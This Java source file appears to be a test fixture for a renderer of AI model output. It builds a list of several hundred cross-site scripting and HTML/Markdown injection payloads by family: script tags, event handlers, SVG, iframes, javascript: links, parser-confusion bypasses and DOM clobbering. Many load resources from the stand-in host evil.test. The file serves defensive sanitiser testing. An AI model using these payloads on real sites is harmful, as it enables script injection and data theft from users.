package org.dohyo;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * Texts that a hostile model could say, by family: each calls {@code top.hit(n)} with its own number n where its code
 * runs, or asks {@code https://evil.test/} for something.
 */
final class HostilePayloads {

    /** @param text with the payload's number in the place of {@code #} */
    record Payload(int number, String family, String text) {
    }

    private final List<Payload> payloads = new ArrayList<>();

    private HostilePayloads() {
    }

    static List<Payload> all() {
        HostilePayloads all = new HostilePayloads();
        all.scripts();
        all.images();
        all.otherMedia();
        all.vectors();
        all.frames();
        all.focus();
        all.styles();
        all.confusedParsers();
        all.markdownLinks();
        all.htmlLinks();
        all.brokenMarkdown();
        all.blocks();
        all.mathematics();
        all.code();
        all.forms();
        all.loading();
        all.clobbering();
        all.oddTags();
        return List.copyOf(all.payloads);
    }

    private void add(String family, String... texts) {
        Stream.of(texts).forEach(text -> {
            int number = payloads.size();
            payloads.add(new Payload(number, family, text.replace("#", Integer.toString(number))));
        });
    }

    private void scripts() {
        add("script", "<script>top.hit(#)</script>", "<SCRIPT>top.hit(#)</SCRIPT>", "<script\n>top.hit(#)</script\n>",
                "<script/x>top.hit(#)</script>", "<scr<script>ipt>top.hit(#)</script>",
                "x<script>top.hit(#)//</script>y",
                "<script type=module>top.hit(#)</script>", "<script>/*</script><script>*/top.hit(#)</script>",
                "<svg><script>top.hit(#)</script></svg>", "<math><script>top.hit(#)</script></math>",
                "<script src=\"https://evil.test/#.js\"></script>", "<script src=data:,top.hit(#)></script>",
                "<noscript><p title=\"</noscript><script>top.hit(#)</script>\">",
                "<template><script>top.hit(#)</script></template>");
    }

    private void images() {
        for (String tag : List.of("<img src=x onerror=CODE>", "<IMG SRC=x ONERROR=CODE>", "<img/src=x/onerror=CODE>",
                "<img src=x onerror='CODE'>", "<img src=x onerror=\"CODE\">", "<img src=x onerror=CODE//",
                "<img src=x\nonerror\n=\nCODE>", "<img\tsrc=x\tonerror=CODE>", "<img src=x oNeRrOr=CODE>",
                "<img src=x onerror=&#116;op.hit(NUMBER)>", "<img src=x onerror=\"top['h'+'it'](NUMBER)\">",
                "<img src onerror=CODE>", "<img src=\"\" onerror=CODE>", "<img srcset=x onerror=CODE>",
                "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=CODE>", "<image src=x onerror=CODE>",
                "<img src=x: onerror=CODE>", "<img alt=\"`\" src=x onerror=CODE alt=\"`\">",
                "<img src='x'onerror=CODE>",
                "<p><img src=x onerror=CODE></p>", "<picture><source srcset=x><img src=x onerror=CODE></picture>",
                "<div><b><i><img src=x onerror=CODE>", "<table><tr><td><img src=x onerror=CODE></table>",
                "<details open><summary>s</summary><img src=x onerror=CODE></details>",
                "<ruby><img src=x onerror=CODE><rt>r</ruby>", "<center><img src=x onerror=CODE>",
                "<marquee><img src=x onerror=CODE>", "<label><img src=x onerror=CODE></label>",
                "<button><img src=x onerror=CODE></button>", "<custom-tag><img src=x onerror=CODE></custom-tag>")) {
            add("image event", tag.replace("CODE", "top.hit(#)").replace("NUMBER", "#"));
        }
    }

    private void otherMedia() {
        add("media event", "<video src=x onerror=top.hit(#)></video>", "<audio src=x onerror=top.hit(#)></audio>",
                "<video><source onerror=top.hit(#) src=x></video>", "<audio><source onerror=top.hit(#) src=x></audio>",
                "<video onloadstart=top.hit(#) src=x></video>", "<audio onloadstart=top.hit(#) src=x></audio>",
                "<video poster=x onerror=top.hit(#) src=x>", "<input type=image src=x onerror=top.hit(#)>",
                "<link rel=stylesheet href=x onerror=top.hit(#)>", "<object data=x onerror=top.hit(#)></object>",
                "<embed src=/favicon.svg onload=top.hit(#)>", "<iframe onload=top.hit(#)></iframe>",
                "<style onload=top.hit(#)>a{}</style>", "<body onload=top.hit(#)><img src=x onerror=top.hit(#)>",
                "<video autoplay onloadstart=top.hit(#)><source src=x></video>");
    }

    private void vectors() {
        add("svg", "<svg><image href=x onerror=top.hit(#) /></svg>",
                "<svg><foreignObject><img src=x onerror=top.hit(#)></foreignObject></svg>",
                "<svg><desc><img src=x onerror=top.hit(#)></desc></svg>",
                "<svg><title><img src=x onerror=top.hit(#)></title></svg>",
                "<svg><animate onbegin=top.hit(#) attributeName=x dur=1s></svg>",
                "<svg><set onbegin=top.hit(#) attributeName=x to=1 dur=1s></svg>",
                "<svg><animateTransform onbegin=top.hit(#) attributeName=transform dur=1s></svg>",
                "<svg><a href=\"javascript:top.hit(#)\"><text y=20>go</text></a></svg>",
                "<svg><a xlink:href=\"javascript:top.hit(#)\"><text y=20>go</text></a></svg>",
                "<svg><use href=\"data:image/svg+xml,<svg id=x onload=top.hit(#)>#x\"></use></svg>",
                "<svg><style>@import 'https://evil.test/#.css';</style></svg>",
                "<svg><feImage href=\"https://evil.test/#.png\"/></svg>",
                "<svg><image xlink:href=x onerror=top.hit(#)></image></svg>",
                "<svg><a><animate attributeName=href values=\"javascript:top.hit(#)\" /><text y=20>go</text></a></svg>",
                "<svg viewBox=\"0 0 1 1\"><g><image href=\"\" onerror=top.hit(#)></g></svg>");
    }

    private void frames() {
        add("frame", "<iframe src=\"javascript:top.hit(#)\"></iframe>",
                "<iframe srcdoc=\"<script>top.hit(#)</script>\"></iframe>",
                "<iframe srcdoc='<img src=x onerror=top.hit(#)>'></iframe>",
                "<iframe srcdoc=\"&lt;script&gt;top.hit(#)&lt;/script&gt;\"></iframe>",
                "<IFRAME SRC=\"jAvAsCrIpT:top.hit(#)\"></IFRAME>",
                "<iframe src=\"java&#9;script:top.hit(#)\"></iframe>",
                "<iframe src=\"&#106;avascript:top.hit(#)\"></iframe>",
                "<iframe src=\"  javascript:top.hit(#)\"></iframe>",
                "<frameset onload=top.hit(#)><img src=x onerror=top.hit(#)>",
                "<iframe src=https://evil.test/#></iframe>",
                "<object data=\"data:text/html,<script>top.hit(#)</script>\"></object>",
                "<iframe src=\"about:blank\" onload=\"top.hit(#)\"></iframe>", "<iframe/onload=top.hit(#)>",
                "<iframe src=\"javascript:void top.hit(#)\">x</iframe>", "<embed src=\"https://evil.test/#\">");
    }

    private void focus() {
        add("focus and time", "<input autofocus onfocus=top.hit(#)>",
                "<textarea autofocus onfocus=top.hit(#)></textarea>",
                "<select autofocus onfocus=top.hit(#)></select>", "<button autofocus onfocus=top.hit(#)>x</button>",
                "<div tabindex=0 autofocus onfocus=top.hit(#)>x</div>", "<details open ontoggle=top.hit(#)>x</details>",
                "<a href=\"https://example.org\" onclick=\"top.hit(#);return false\">x</a>",
                "<p onclick=top.hit(#) class=clickme>x</p>", "<b onclick='top.hit(#)'>x</b>",
                "<div onclick=top.hit(#)>x</div>",
                "<td onclick=top.hit(#)>x</td><i onclick=top.hit(#)>y</i>", "<summary onclick=top.hit(#)>x</summary>",
                "<kbd onclick=top.hit(#)>x</kbd>", "<details ontoggle=top.hit(#) open><summary>s</summary></details>",
                "<x onclick=top.hit(#)>x</x>", "<video controls onclick=top.hit(#)></video>",
                "<u onclick=top.hit(#)>x</u>");
    }

    private void styles() {
        add("style", "<style>@keyframes x{}b{animation:x 1ms}</style><b onanimationstart=top.hit(#)>x</b>",
                "<style>*{background:url(https://evil.test/#.png)}</style>",
                "<div style=\"background:url(https://evil.test/#.png)\">x</div>",
                "<style>@import url(https://evil.test/#.css);</style>",
                "<p style=\"position:fixed;inset:0\" onclick=top.hit(#)>x</p>",
                "<style>.answer{display:none}</style><img src=x onerror=top.hit(#)>",
                "<link rel=stylesheet href=https://evil.test/#.css>",
                "<b style=\"behavior:url(x)\" onclick=top.hit(#)>x</b>",
                "<style><img src=x onerror=top.hit(#)></style><img src=x onerror=top.hit(#)>",
                "<svg><style><img src=x onerror=top.hit(#)></style></svg>");
    }

    private void confusedParsers() {
        add("parser confusion", "<math><mtext><table><mglyph><style><img src=x onerror=top.hit(#)>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=top.hit(#)&gt;\">",
                "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=top.hit(#)>",
                "<svg></p><style><a id=\"</style><img src=x onerror=top.hit(#)>\">",
                "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=top.hit(#)></annotation-xml></math>",
                "<noembed><img title=\"</noembed><img src=x onerror=top.hit(#)>\">",
                "<xmp><p title=\"</xmp><img src=x onerror=top.hit(#)>\">",
                "<textarea></textarea><img src=x onerror=top.hit(#)>",
                "<title></title><img src=x onerror=top.hit(#)>", "<!--><img src=x onerror=top.hit(#)>-->",
                "<!-- x --!><img src=x onerror=top.hit(#)>", "<![CDATA[<img src=x onerror=top.hit(#)>]]>",
                "<svg><![CDATA[><img src=x onerror=top.hit(#)>]]></svg>", "<?xml ><img src=x onerror=top.hit(#)>",
                "<select><iframe><img src=x onerror=top.hit(#)></select>",
                "<table><style><img src=x onerror=top.hit(#)></table>",
                "<math><mi><img src=x onerror=top.hit(#)></mi></math>",
                "<math><maction actiontype=\"statusline\"><mtext><img src=x onerror=top.hit(#)>",
                "<iframe><img src=x onerror=top.hit(#)></iframe><img src=x onerror=top.hit(#)>",
                "<svg><p><style><!--</style><img src=x onerror=top.hit(#)>-->");
    }

    private void markdownLinks() {
        add("Markdown link", "[x](javascript:top.hit(#))", "[x](JaVaScRiPt:top.hit(#))",
                "[x](javascript:top.hit\\(#\\))",
                "[x](<javascript:top.hit(#)>)", "[x][1]\n\n[1]: javascript:top.hit(#)", "<javascript:top.hit(#)>",
                "[x](java&#115;cript:top.hit(#))", "[x](&#106;avascript:top.hit(#))",
                "[x](javascript&colon;top.hit(#))",
                "[x](vbscript:top.hit(#))", "[x](data:text/html,<script>top.hit(#)</script>)",
                "![x](javascript:top.hit(#))",
                "[![x](x)](javascript:top.hit(#))", "[x](javascript:top.hit(#) \"t\")",
                "[<b>x</b>](javascript:top.hit(#))",
                "[x]( javascript:top.hit(#))", "* [x](javascript:top.hit(#))", "> [x](javascript:top.hit(#))",
                "# [x](javascript:top.hit(#))".replace("# [", "## ["), "**[x](javascript:top.hit(#))**");
    }

    private void htmlLinks() {
        add("HTML link", "<a href=\"javascript:top.hit(#)\">x</a>", "<a href=javascript:top.hit(#)>x</a>",
                "<a href=\"java\nscript:top.hit(#)\">x</a>", "<a href=\"java\tscript:top.hit(#)\">x</a>",
                "<a href=\"&#x6A;avascript:top.hit(#)\">x</a>", "<a href=\"javascript&colon;top.hit(#)\">x</a>",
                "<a href=\" javascript:top.hit(#)\">x</a>", "<a href=\"\u0001javascript:top.hit(#)\">x</a>",
                "<a href='javascript:top.hit(#)' target=_self>x</a>", "<area href=javascript:top.hit(#)>",
                "<map><area href=\"javascript:top.hit(#)\">x</map>", "<a href=\"javascript:/*x*/top.hit(#)\">x</a>",
                "<math href=\"javascript:top.hit(#)\">x</math>",
                "<a href=\"/language?to=ja\" ping=\"https://evil.test/#\">x</a>",
                "<base href=\"javascript:top.hit(#)//\"><a href=\"javascript:top.hit(#)\">x</a>");
    }

    private void brokenMarkdown() {
        add("Markdown breakout", "![x](x\"onerror=\"top.hit(#))", "![\"onerror=\"top.hit(#)](x)",
                "[x](x \"\" onclick=top.hit(#))",
                "![x](x '\" onerror=top.hit(#) x=\"')",
                "`<img src=x onerror=top.hit(#)>`<img src=x onerror=top.hit(#)>",
                "<https://example.org/\"onclick=top.hit(#)>",
                "[a](https://example.org/\"><img src=x onerror=top.hit(#)>)",
                "[<img src=x onerror=top.hit(#)>](https://example.org)",
                "| <img src=x onerror=top.hit(#)> |\n| - |\n| y |",
                "| x |\n| - |\n| <img src=x onerror=top.hit(#)> |",
                "# <img src=x onerror=top.hit(#)>".replace("# <", "### <"),
                "**<img src=x onerror=top.hit(#)>**", "~~<img src=x onerror=top.hit(#)>~~",
                "_<img src=x onerror=top.hit(#)>_",
                "\\<img src=x onerror=top.hit(#)><img src=x onerror=top.hit(#)>", "[x]: <javascript:top.hit(#)>\n[x]",
                "a\n<img src=x onerror=top.hit(#)>\nb", "\t\n<img src=x onerror=top.hit(#)>",
                "www.example.org/<img src=x onerror=top.hit(#)>");
    }

    private void blocks() {
        for (String around : List.of("* %s", "1. %s", "> %s", "> > %s", "- [ ] %s", "- [x] %s", "a  \n%s", "***\n%s",
                "%s\n===",
                "%s\n---", "* a\n  * %s", "<div>\n\n%s\n\n</div>", "&lt;%s", "a | b\n--|--\n%s | c", "Term\n: %s",
                "😀%s",
                "日本%s語")) {
            add("inside a block", around.formatted("<img src=x onerror=top.hit(#)>"));
        }
    }

    private void mathematics() {
        add("mathematics", "$\\href{javascript:top.hit(#)}{x}$", "$\\url{javascript:top.hit(#)}$",
                "$\\htmlData{onclick=top.hit(#)}{x}$",
                "$\\htmlClass{x\" onclick=\"top.hit(#)}{x}$", "$\\includegraphics{https://evil.test/#.png}$",
                "$<img src=x onerror=top.hit(#)>$", "$$<img src=x onerror=top.hit(#)>$$",
                "$\\text{<img src=x onerror=top.hit(#)>}$",
                "\\(<img src=x onerror=top.hit(#)>\\)", "\\[<img src=x onerror=top.hit(#)>\\]",
                "$\\def\\x{\\x\\x}\\x$<img src=x onerror=top.hit(#)>", "$\\unicode{<img src=x onerror=top.hit(#)>}$",
                "$a$<img src=x onerror=top.hit(#)>$b$",
                "$\\color{red\"onclick=\"top.hit(#)}{x}$<img src=x onerror=top.hit(#)>");
    }

    private void code() {
        add("code", "```html\n<img src=x onerror=top.hit(#)>\n```\n<img src=x onerror=top.hit(#)>",
                "```js\"onclick=\"top.hit(#)\nx\n```", "```<img src=x onerror=top.hit(#)>\nx\n```",
                "~~~\n<script>top.hit(#)</script>\n~~~\n<img src=x onerror=top.hit(#)>",
                "```\n```<img src=x onerror=top.hit(#)>",
                "<pre><code><img src=x onerror=top.hit(#)></code></pre>",
                "<code class=\"hljs\" onclick=top.hit(#)>x</code>",
                "```html\n</code></pre><img src=x onerror=top.hit(#)>\n```\n\n<b onclick=top.hit(#)>x</b>",
                "    <img src=x onerror=top.hit(#)>\n\n<img src=x onerror=top.hit(#)>",
                "<button class=\"copy-code\" onclick=top.hit(#)>Copy</button>");
    }

    private void forms() {
        add("form", "<form action=\"javascript:top.hit(#)\"><button>x</button></form>",
                "<form><button formaction=\"javascript:top.hit(#)\">x</button></form>",
                "<form><input type=submit formaction=javascript:top.hit(#)></form>",
                "<form onsubmit=\"top.hit(#);return false\"><button>x</button></form>",
                "<isindex action=javascript:top.hit(#)><img src=x onerror=top.hit(#)>",
                "<form action=/api/me method=post><input name=x><button>x</button></form><img src=x onerror=top.hit(#)>",
                "<button onclick=top.hit(#) type=button>x</button>", "<input type=button onclick=top.hit(#) value=x>",
                "<label for=prompt onclick=top.hit(#)>x</label>", "<dialog open onclick=top.hit(#)>x</dialog>",
                "<button popovertarget=p onclick=top.hit(#)>x</button><div popover id=p onbeforetoggle=top.hit(#)>y</div>");
    }

    private void loading() {
        add("loading", "![x](https://evil.test/#.png)", "<img src=https://evil.test/#.png>",
                "<img srcset=\"https://evil.test/#.png 1x\">",
                "<video poster=https://evil.test/#.png></video>", "<audio src=https://evil.test/#.mp3></audio>",
                "<link rel=prefetch href=https://evil.test/#>", "<link rel=dns-prefetch href=https://evil.test>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.test/#\">",
                "<table background=https://evil.test/#.png><tr><td>x</table>",
                "<td background=https://evil.test/#.png>x</td>", "<input type=image src=https://evil.test/#.png>",
                "<object data=https://evil.test/#></object>",
                "<picture><source srcset=https://evil.test/#.png><img></picture>",
                "<base href=https://evil.test/#/><img src=y onerror=top.hit(#)>",
                "<track src=https://evil.test/#.vtt>", "[![x](https://evil.test/#.png)](https://example.org)");
    }

    private void clobbering() {
        add("clobbering", "<a id=prompt name=prompt href=\"javascript:top.hit(#)\">x</a>",
                "<form id=ask><input name=submit onclick=top.hit(#)></form>",
                "<img name=getElementById src=x onerror=top.hit(#)>",
                "<form name=body><img src=x onerror=top.hit(#)></form>",
                "<a id=battle data-err-other=x onclick=top.hit(#)>x</a>", "<img id=status src=x onerror=top.hit(#)>",
                "<div data-outcome=A onclick=top.hit(#)>A is better</div>",
                "<form><input name=attributes><img src=x onerror=top.hit(#)></form>");
    }

    private void oddTags() {
        add("odd tag", "<<img src=x onerror=top.hit(#)>", "<img src=x onerror=top.hit(#) <b>",
                "<a<img src=x onerror=top.hit(#)>>",
                "</p><img src=x onerror=top.hit(#)>", "<img \u0000src=x onerror=top.hit(#)>",
                "<img src=x \u000bonerror=top.hit(#) onerror=top.hit(#)>",
                "<IMG \"\"\"><img src=x onerror=top.hit(#)>\">", "<div/><img/src=\"x\"/onerror=\"top.hit(#)\"/>",
                "<br><img src=x onerror=top.hit(#)",
                "<p title='><img src=x onerror=top.hit(#)>'><img src=x onerror=top.hit(#)>",
                "<img src=x onerror=\"top.hit(#)\"/><",
                "<portal src=x><img src=x onerror=top.hit(#)>", "<slot><img src=x onerror=top.hit(#)></slot>",
                "<div><template shadowrootmode=open><img src=x onerror=top.hit(#)></template></div><img src=x onerror=top.hit(#)>",
                "&#60;img src=x onerror=top.hit(#)&#62;<img src=x onerror=top.hit(#)>");
    }
}
